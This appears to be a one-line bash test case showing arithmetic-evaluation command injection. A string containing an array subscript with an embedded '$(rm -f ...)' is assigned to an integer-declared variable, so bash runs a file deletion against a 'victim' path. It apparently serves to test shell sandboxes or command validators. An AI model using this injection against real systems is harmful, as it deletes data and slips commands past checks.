declare -i n; export n; x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E13)]'; n=x
